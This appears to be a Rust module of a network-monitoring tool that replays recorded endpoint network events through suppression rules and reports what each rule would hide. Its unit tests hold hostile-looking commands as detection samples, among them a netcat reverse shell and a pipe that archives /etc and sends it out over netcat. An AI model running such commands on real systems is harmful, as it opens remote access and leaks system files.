//! Replaying recorded `DeviceNetworkEvents` rows through a rule set, to measure what
//! each rule would suppress before it is deployed (`iocmon replay FILE.jsonl`).
//!
//! Input: one JSON object per line, with the table's column names:
//! `InitiatingProcessFileName`, `InitiatingProcessCommandLine`,
//! `InitiatingProcessFolderPath`, `InitiatingProcessParentFileName`,
//! `InitiatingProcessAccountName`, `RemoteIP`, `RemotePort`, `LocalIP`, `Protocol`, and
//! `AdditionalFields` (an object, or a string holding one) with optional
//! `DetectionClass` ("ioc" marks an indicator hit; a list or a comma-separated string
//! is accepted), `Indicator`, `ContainerId`, `Comm`, `PosixUserId` and `Ancestors`
//! (parent first: names, or objects with `Name`/`FileName` and `FolderPath`/`Path`).
//! Rows of other tables (a `Table` column naming another table) are skipped.
//!
//! Pure: text in, [`ReplayReport`] out; the rule set's live counters are not touched.

use std::net::IpAddr;

use serde::Serialize;
use serde_json::{Map, Value};

use super::{Ancestor, DetectionClass, Protocol, RuleSet, Subject};

/// At most this many malformed lines are kept with their reasons (all are counted).
pub const MAX_KEPT_ERRORS: usize = 100;
/// At most this many example line numbers are kept per rule.
pub const MAX_EXAMPLES: usize = 10;

#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
pub struct ReplayReport {
    /// Non-blank lines read.
    pub lines: usize,
    /// Rows judged.
    pub records: usize,
    /// Rows of another table, skipped.
    pub skipped: usize,
    /// Lines that were not a usable row.
    pub invalid: usize,
    /// The first [`MAX_KEPT_ERRORS`] of them.
    pub errors: Vec<ReplayError>,
    /// Rows in at least one detection class.
    pub detected: usize,
    /// Rows still reported after the rules.
    pub reported: usize,
    /// Rows whose every class was suppressed.
    pub excluded: usize,
    /// Per class: rows in it, and rows where it survived the rules.
    pub classes: Vec<ClassCount>,
    /// Per rule, in file order.
    pub rules: Vec<RuleReplay>,
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct ReplayError {
    /// 1-based line number.
    pub line: usize,
    pub reason: String,
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct ClassCount {
    pub class: &'static str,
    pub detected: usize,
    pub reported: usize,
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct RuleReplay {
    pub rule: String,
    /// Rows this rule excluded (every class suppressed, this rule among the causes).
    pub excluded: usize,
    /// Rows where this rule suppressed a class but another class was still reported
    /// (for example `network-tool` suppressed on a row that is also an `ioc` hit).
    pub partially_suppressed: usize,
    /// Line numbers of the first excluded rows.
    pub example_lines: Vec<usize>,
}

/// Run every line through the rules.
pub fn replay<'a>(rules: &RuleSet, lines: impl IntoIterator<Item = &'a str>) -> ReplayReport {
    let mut report = ReplayReport {
        classes: DetectionClass::ALL
            .iter()
            .map(|class| ClassCount {
                class: class.name(),
                detected: 0,
                reported: 0,
            })
            .collect(),
        rules: rules
            .rules()
            .iter()
            .map(|rule| RuleReplay {
                rule: rule.name.clone(),
                excluded: 0,
                partially_suppressed: 0,
                example_lines: Vec::new(),
            })
            .collect(),
        ..ReplayReport::default()
    };
    for (index, line) in lines.into_iter().enumerate() {
        let line_number = index + 1;
        let line = line.trim();
        if line.is_empty() {
            continue;
        }
        report.lines += 1;
        let subject = match serde_json::from_str::<Value>(line)
            .map_err(|error| format!("not JSON: {error}"))
            .and_then(|value| subject_from_record(&value))
        {
            Ok(Some(subject)) => subject,
            Ok(None) => {
                report.skipped += 1;
                continue;
            }
            Err(reason) => {
                report.invalid += 1;
                if report.errors.len() < MAX_KEPT_ERRORS {
                    report.errors.push(ReplayError {
                        line: line_number,
                        reason,
                    });
                }
                continue;
            }
        };
        report.records += 1;
        let verdict = rules.judge(&subject);
        if verdict.classes.is_empty() {
            continue;
        }
        report.detected += 1;
        if verdict.is_reported() {
            report.reported += 1;
        } else {
            report.excluded += 1;
        }
        for count in &mut report.classes {
            let class = DetectionClass::from_name(count.class);
            if class.is_some_and(|class| verdict.classes.contains(&class)) {
                count.detected += 1;
            }
            if class.is_some_and(|class| verdict.reported_classes.contains(&class)) {
                count.reported += 1;
            }
        }
        for per_rule in &mut report.rules {
            if !verdict.suppressions.iter().any(|s| s.rule == per_rule.rule) {
                continue;
            }
            if verdict.is_excluded() {
                per_rule.excluded += 1;
                if per_rule.example_lines.len() < MAX_EXAMPLES {
                    per_rule.example_lines.push(line_number);
                }
            } else {
                per_rule.partially_suppressed += 1;
            }
        }
    }
    report
}

impl ReplayReport {
    /// A plain-text summary for a terminal.
    pub fn render_text(&self) -> String {
        let mut out = format!(
            "{} records ({} lines, {} skipped, {} invalid): {} detected, {} reported, {} excluded\n",
            self.records,
            self.lines,
            self.skipped,
            self.invalid,
            self.detected,
            self.reported,
            self.excluded
        );
        for class in &self.classes {
            out.push_str(&format!(
                "  class {:<14} detected {:>7}  reported {:>7}\n",
                class.class, class.detected, class.reported
            ));
        }
        for rule in &self.rules {
            out.push_str(&format!(
                "  rule {:?}: would exclude {} (partially suppress {})",
                rule.rule, rule.excluded, rule.partially_suppressed
            ));
            if !rule.example_lines.is_empty() {
                let lines: Vec<String> = rule.example_lines.iter().map(usize::to_string).collect();
                out.push_str(&format!("; lines {}", lines.join(", ")));
            }
            out.push('\n');
        }
        for error in &self.errors {
            out.push_str(&format!("  line {}: {}\n", error.line, error.reason));
        }
        out
    }
}

fn text<'a>(row: &'a Map<String, Value>, key: &str) -> Option<&'a str> {
    row.get(key)
        .and_then(Value::as_str)
        .map(str::trim)
        .filter(|value| !value.is_empty())
}

fn parse_ip(value: &str) -> Option<IpAddr> {
    value
        .trim_matches(|c| c == '[' || c == ']')
        .parse::<IpAddr>()
        .ok()
        .map(|ip| ip.to_canonical())
}

/// Build a subject from one row. `Ok(None)`: a row of another table.
pub fn subject_from_record(value: &Value) -> Result<Option<Subject>, String> {
    let row = value.as_object().ok_or("not a JSON object")?;
    if let Some(table) = text(row, "Table") {
        if table != "DeviceNetworkEvents" {
            return Ok(None);
        }
    }
    let empty = Map::new();
    let parsed_fields;
    let extra = match row.get("AdditionalFields") {
        Some(Value::Object(map)) => map,
        Some(Value::String(json)) if !json.trim().is_empty() => {
            parsed_fields = serde_json::from_str::<Value>(json)
                .map_err(|error| format!("AdditionalFields is not JSON: {error}"))?;
            parsed_fields
                .as_object()
                .ok_or("AdditionalFields is not a JSON object")?
        }
        _ => &empty,
    };

    let remote = text(row, "RemoteIP").ok_or("no RemoteIP")?;
    let destination_ip = parse_ip(remote).ok_or_else(|| format!("bad RemoteIP {remote:?}"))?;
    let destination_port = match row.get("RemotePort") {
        None | Some(Value::Null) => 0,
        Some(Value::Number(number)) => number
            .as_u64()
            .and_then(|port| u16::try_from(port).ok())
            .ok_or_else(|| format!("bad RemotePort {number}"))?,
        Some(Value::String(port)) => port
            .trim()
            .parse::<u16>()
            .map_err(|_| format!("bad RemotePort {port:?}"))?,
        Some(other) => return Err(format!("bad RemotePort {other}")),
    };
    let protocol = match text(row, "Protocol")
        .map(str::to_ascii_lowercase)
        .as_deref()
    {
        None | Some("tcp") => Protocol::Tcp,
        Some("udp") => Protocol::Udp,
        Some(_) => Protocol::Other,
    };

    let file_name = text(row, "InitiatingProcessFileName").unwrap_or_default();
    let comm = text(extra, "Comm").unwrap_or(file_name).to_string();
    let exe_path = text(row, "InitiatingProcessFolderPath").map(str::to_string);
    let argv = text(row, "InitiatingProcessCommandLine")
        .map(split_command_line)
        .unwrap_or_default();

    let ancestors = match extra.get("Ancestors") {
        Some(Value::Array(items)) => items.iter().filter_map(ancestor).collect(),
        _ => text(row, "InitiatingProcessParentFileName")
            .map(|parent| vec![Ancestor::named(parent)])
            .unwrap_or_default(),
    };

    let classes: Vec<String> = match extra.get("DetectionClass") {
        Some(Value::String(names)) => names.split(',').map(|n| n.trim().to_string()).collect(),
        Some(Value::Array(names)) => names
            .iter()
            .filter_map(Value::as_str)
            .map(str::to_string)
            .collect(),
        _ => Vec::new(),
    };
    let indicator_hit = classes.iter().any(|class| class == "ioc")
        || extra.get("Indicator").is_some_and(|v| !v.is_null());

    Ok(Some(Subject {
        comm,
        exe_path,
        argv,
        ancestors,
        user: text(row, "InitiatingProcessAccountName").map(str::to_string),
        uid: extra
            .get("PosixUserId")
            .and_then(Value::as_u64)
            .and_then(|uid| u32::try_from(uid).ok()),
        container_id: text(extra, "ContainerId").map(str::to_string),
        source_ip: text(row, "LocalIP").and_then(parse_ip),
        destination_ip: Some(destination_ip),
        destination_port,
        protocol,
        indicator_hit,
    }))
}

fn ancestor(value: &Value) -> Option<Ancestor> {
    match value {
        Value::String(name) if !name.is_empty() => Some(Ancestor::named(name)),
        Value::Object(map) => {
            let name = ["Name", "FileName", "name"]
                .iter()
                .find_map(|key| text(map, key))?;
            let exe_path = ["FolderPath", "Path", "path"]
                .iter()
                .find_map(|key| text(map, key))
                .map(str::to_string);
            Some(Ancestor {
                name: name.to_string(),
                exe_path,
            })
        }
        _ => None,
    }
}

/// Split a recorded command line into argv as a POSIX shell would split words:
/// blanks separate words; single quotes keep everything literally; double quotes keep
/// blanks and honour `\"`, `\\`, `\$` and `` \` ``; a backslash outside quotes escapes
/// the next character. Never fails: an unterminated quote runs to the end of the line.
/// Shell operators (`|`, `>`) are not special: a recorded command line is an argv
/// joined with spaces, not a shell script.
pub fn split_command_line(line: &str) -> Vec<String> {
    #[derive(PartialEq)]
    enum State {
        Blank,
        Word,
        Single,
        Double,
    }
    let mut words = Vec::new();
    let mut word = String::new();
    let mut state = State::Blank;
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        match state {
            State::Blank | State::Word => match c {
                c if c.is_whitespace() => {
                    if state == State::Word {
                        words.push(std::mem::take(&mut word));
                        state = State::Blank;
                    }
                }
                '\'' => state = State::Single,
                '"' => state = State::Double,
                '\\' => {
                    if let Some(next) = chars.next() {
                        word.push(next);
                    }
                    state = State::Word;
                }
                other => {
                    word.push(other);
                    state = State::Word;
                }
            },
            State::Single => match c {
                '\'' => state = State::Word,
                other => word.push(other),
            },
            State::Double => match c {
                '"' => state = State::Word,
                '\\' => match chars.next() {
                    Some(next @ ('"' | '\\' | '$' | '`')) => word.push(next),
                    Some(next) => {
                        word.push('\\');
                        word.push(next);
                    }
                    None => word.push('\\'),
                },
                other => word.push(other),
            },
        }
    }
    if state != State::Blank {
        words.push(word);
    }
    words
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn splits_like_a_shell() {
        assert_eq!(
            split_command_line("nc -zv 10.0.0.1 22"),
            ["nc", "-zv", "10.0.0.1", "22"]
        );
        assert_eq!(
            split_command_line(r#"sh -c 'tar cz /etc | nc backup 9000'"#),
            ["sh", "-c", "tar cz /etc | nc backup 9000"]
        );
        assert_eq!(
            split_command_line(r#"a "b \"c\" \d" e\ f '' """#),
            ["a", r#"b "c" \d"#, "e f", "", ""]
        );
        assert_eq!(split_command_line("  "), Vec::<String>::new());
        assert_eq!(
            split_command_line("x 'unterminated y"),
            ["x", "unterminated y"]
        );
        assert_eq!(split_command_line("trailing\\"), ["trailing"]);
        assert_eq!(split_command_line("a\tb\nc"), ["a", "b", "c"]);
    }

    const NC_BACKUP: &str = r#"{"Table":"DeviceNetworkEvents","RemoteIP":"10.1.2.3","RemotePort":9000,"LocalIP":null,"Protocol":"Tcp","InitiatingProcessFileName":"nc.openbsd","InitiatingProcessFolderPath":"/usr/bin/nc.openbsd","InitiatingProcessCommandLine":"nc -q0 10.1.2.3 9000 backup","InitiatingProcessAccountName":"root","AdditionalFields":{"DetectionClass":"network-tool","Comm":"nc"}}"#;
    const NC_BACKUP_IOC: &str = r#"{"RemoteIP":"217.60.195.160","RemotePort":4569,"InitiatingProcessFileName":"nc","InitiatingProcessCommandLine":"nc 217.60.195.160 4569 backup","AdditionalFields":{"DetectionClass":"ioc"}}"#;
    const CURL: &str = r#"{"RemoteIP":"93.184.216.34","RemotePort":"443","InitiatingProcessFileName":"curl","InitiatingProcessCommandLine":"curl https://example.com/","AdditionalFields":"{\"DetectionClass\":\"network-tool\"}"}"#;
    const SCANNER: &str = r#"{"RemoteIP":"10.9.9.9","RemotePort":22,"InitiatingProcessFileName":"nc","InitiatingProcessCommandLine":"nc 10.9.9.9 22","InitiatingProcessParentFileName":"sh","AdditionalFields":{"Ancestors":["sh",{"Name":"nmap","FolderPath":"/usr/bin/nmap"},"sshd"]}}"#;
    const CONTAINER: &str = r#"{"RemoteIP":"172.17.0.3","RemotePort":6379,"LocalIP":"172.17.0.2","InitiatingProcessFileName":"nc","InitiatingProcessCommandLine":"nc redis 6379","AdditionalFields":{"ContainerId":"4f1c2b3a9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a"}}"#;
    const REVERSE: &str = r#"{"RemoteIP":"10.1.2.3","RemotePort":514,"InitiatingProcessFileName":"nc","InitiatingProcessCommandLine":"nc -e /bin/sh 10.1.2.3 514","AdditionalFields":{"Ancestors":["sh","cron"]}}"#;
    const PLAIN: &str =
        r#"{"RemoteIP":"10.1.2.3","RemotePort":443,"InitiatingProcessFileName":"python3"}"#;
    const DNS: &str = r#"{"Table":"DnsEvents","Name":"justkiddin.live"}"#;

    #[test]
    fn builds_subjects_from_rows() {
        let row: Value = serde_json::from_str(SCANNER).expect("json");
        let subject = subject_from_record(&row).expect("row").expect("subject");
        assert_eq!(subject.argv, ["nc", "10.9.9.9", "22"]);
        assert_eq!(subject.ancestors.len(), 3);
        assert_eq!(
            subject.ancestors[1].exe_path.as_deref(),
            Some("/usr/bin/nmap")
        );

        let row: Value = serde_json::from_str(CURL).expect("json");
        let subject = subject_from_record(&row).expect("row").expect("subject");
        assert_eq!(subject.destination_port, 443);
        assert!(!subject.indicator_hit);

        let row: Value = serde_json::from_str(NC_BACKUP_IOC).expect("json");
        assert!(
            subject_from_record(&row)
                .expect("row")
                .expect("subject")
                .indicator_hit
        );

        let row: Value = serde_json::from_str(r#"{"RemoteIP":"::ffff:10.0.0.1"}"#).expect("json");
        let subject = subject_from_record(&row).expect("row").expect("subject");
        assert_eq!(subject.destination_ip, "10.0.0.1".parse().ok());
    }

    #[test]
    fn reports_per_rule() {
        let rules = RuleSet::builtin().expect("default rules");
        let input = [
            NC_BACKUP,
            NC_BACKUP_IOC,
            CURL,
            SCANNER,
            CONTAINER,
            REVERSE,
            PLAIN,
            DNS,
            "",
            "{oops",
            r#"{"RemotePort":1}"#,
            "[1]",
        ]
        .join("\n");
        let report = replay(&rules, input.lines());
        assert_eq!(report.lines, 11);
        assert_eq!((report.records, report.skipped, report.invalid), (7, 1, 3));
        assert_eq!(report.errors[0].line, 10);
        assert!(report.errors[0].reason.starts_with("not JSON"));
        assert_eq!(report.errors[1].reason, "no RemoteIP");
        assert_eq!(report.errors[2].reason, "not a JSON object");
        // Detected: backup, backup+ioc, curl, scanner, container, reverse shell.
        assert_eq!(report.detected, 6);
        assert_eq!(report.excluded, 3);
        assert_eq!(report.reported, 3, "ioc, curl, reverse shell");
        let by_rule = |name: &str| {
            report
                .rules
                .iter()
                .find(|rule| rule.rule == name)
                .map(|rule| {
                    (
                        rule.excluded,
                        rule.partially_suppressed,
                        rule.example_lines.clone(),
                    )
                })
        };
        assert_eq!(by_rule("netcat-backup-restore"), Some((1, 1, vec![1])));
        assert_eq!(
            by_rule("netcat-under-security-scanner"),
            Some((1, 0, vec![4]))
        );
        assert_eq!(by_rule("netcat-container-internal"), Some((1, 0, vec![5])));
        assert_eq!(
            by_rule("netcat-cron-syslog-destination"),
            Some((0, 0, vec![]))
        );
        let reverse = report.classes.iter().find(|c| c.class == "reverse-shell");
        assert_eq!(reverse.map(|c| (c.detected, c.reported)), Some((1, 1)));
        let ioc = report.classes.iter().find(|c| c.class == "ioc");
        assert_eq!(ioc.map(|c| (c.detected, c.reported)), Some((1, 1)));
        let text = report.render_text();
        assert!(text.starts_with(
            "7 records (11 lines, 1 skipped, 3 invalid): 6 detected, 3 reported, 3 excluded\n"
        ));
        assert!(text.contains(
            "rule \"netcat-backup-restore\": would exclude 1 (partially suppress 1); lines 1\n"
        ));
        // Replay leaves the live counters alone.
        assert!(rules
            .suppression_counts()
            .iter()
            .all(|count| count.excluded == 0));
    }
}
